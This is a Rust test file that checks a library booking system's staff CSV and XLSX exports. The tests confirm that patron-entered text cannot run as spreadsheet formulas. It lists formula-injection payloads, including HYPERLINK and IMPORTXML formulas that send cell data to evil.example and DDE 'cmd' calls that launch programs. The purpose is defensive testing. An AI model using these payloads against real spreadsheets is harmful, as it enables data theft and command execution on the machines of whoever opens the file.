//! The staff export cannot run what a patron typed: every formula payload, through every field
//! a patron (or a cancel) fills, exported as CSV opens as text (a leading `'` before `=`, `+`,
//! `-`, `@`, a tab or a carriage return) and as XLSX as string cells, read back with calamine.

use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use rantevou_domain::appointment::{Appointment, Status};
use rantevou_domain::patron::{parse_patron_input, FreeText, PatronInput};
use rantevou_domain::question::parse_answers;
use rantevou_domain::Language;
use rantevou_http::export::{export_csv, export_xlsx};
use std::io::Cursor;

/// What the attacks tried, each as a formula a spreadsheet would run.
const PAYLOADS: [&str; 13] = [
    r#"=HYPERLINK("http://evil.example/?d="&I2,"Click for your appointment")"#,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    r#"=DDE("cmd";"/C calc";"!A0")"#,
    "=cmd|'/ccalc'!A0",
    "-1-2-3-4-5-6-7",
    "+30 6900000000",
    "@import",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")",
];

/// An appointment with `payload` wherever the parsers let it in: the name, the topic, the
/// phone, the address's local part, the answer to the text question, and the cancel reason.
fn appointments() -> Vec<Appointment> {
    let config = rantevou_testkit::sample_config();
    let mut out = Vec::new();
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let start = rantevou_testkit::fixture_now() + chrono::Duration::days(3 + i as i64);
        let (mut a, _) =
            rantevou_testkit::appointment(&config, "mylibrarylive", "sip", start, "Anna");
        let base = rantevou_testkit::patron_input("Anna");
        for input in [
            PatronInput {
                name: Some((*payload).into()),
                ..base.clone()
            },
            PatronInput {
                notes: Some((*payload).into()),
                ..base.clone()
            },
            PatronInput {
                phone: Some((*payload).into()),
                ..base.clone()
            },
            PatronInput {
                email: Some(format!("{payload}.x@example.org")),
                ..base.clone()
            },
        ] {
            if let Ok(patron) = parse_patron_input(&input, Default::default(), Language::El) {
                let mut b = a.clone();
                b.patron = patron;
                out.push(b);
            }
        }
        let sent = serde_json::from_value(serde_json::json!({
            "status": "pg", "school": "none", "tried": payload,
        }))
        .unwrap();
        let mut errors = Default::default();
        let service = config.service("mylibrarylive").unwrap();
        let answers = parse_answers(&service.questions, &sent, &mut errors);
        if errors == Default::default() {
            let mut b = a.clone();
            b.answers = answers;
            out.push(b);
        }
        if let Ok(reason) = FreeText::parse(payload) {
            a.status = Status::Cancelled {
                at: rantevou_testkit::fixture_now(),
                reason,
                by: rantevou_domain::Canceller::Staff,
            };
            out.push(a);
        }
    }
    out
}

fn dangerous(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn every_formula_payload_exports_as_text_in_csv() {
    let list = appointments();
    assert!(list.len() > 20, "payloads got in: {}", list.len());
    let config = rantevou_testkit::sample_config();
    let csv = export_csv(&list, &config, Language::El).unwrap();
    let text = String::from_utf8(csv).unwrap();
    let text = text.strip_prefix('\u{feff}').expect("a BOM");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(true)
        .from_reader(text.as_bytes());
    let mut neutralised = 0;
    for record in reader.records() {
        let record = record.unwrap();
        assert_eq!(record.len(), 18 + 3, "a column for each of the 3 questions");
        for cell in record.iter() {
            assert!(!dangerous(cell), "a cell that would run: {cell:?}");
            if cell.starts_with('\'') {
                neutralised += 1;
            }
        }
    }
    assert!(
        neutralised >= list.len(),
        "every payload neutralised: {neutralised}"
    );
}

#[test]
fn every_formula_payload_exports_as_string_cells_in_xlsx() {
    let list = appointments();
    let config = rantevou_testkit::sample_config();
    let bytes = export_xlsx(&list, &config, Language::El).unwrap();
    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let range = book.worksheet_range("rantevou").unwrap();
    assert_eq!(range.height(), list.len() + 1);
    assert_eq!(
        range.get((0, 0)),
        Some(&Data::String("Κωδικός".into())),
        "the header in the library's language"
    );
    let header: Vec<String> = range
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(
        header[10..15],
        [
            "Θέμα",
            "Ιδιότητα",
            "Σχολή",
            "Τι έχετε ήδη δοκιμάσει;",
            "Γλώσσα"
        ],
        "the questions' columns after the topic, in the library's language"
    );
    let answered = range
        .rows()
        .find(|row| row[11] == Data::String("Μεταπτυχιακός/ή φοιτητής/τρια".into()));
    let answered = answered.expect("a row with the answers, in words");
    assert_eq!(
        answered[12],
        Data::String("Καμία (εκτός Πανεπιστημίου)".into())
    );
    let mut payload_cells = 0;
    for row in range.rows() {
        for cell in row {
            match cell {
                Data::String(s) => {
                    payload_cells += usize::from(PAYLOADS.iter().any(|p| s.contains(p.trim())))
                }
                Data::Empty => {}
                other => panic!("a cell that is not a string: {other:?}"),
            }
        }
    }
    assert!(payload_cells >= list.len(), "{payload_cells}");
    let formulas = book.worksheet_formula("rantevou").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula anywhere"
    );
}
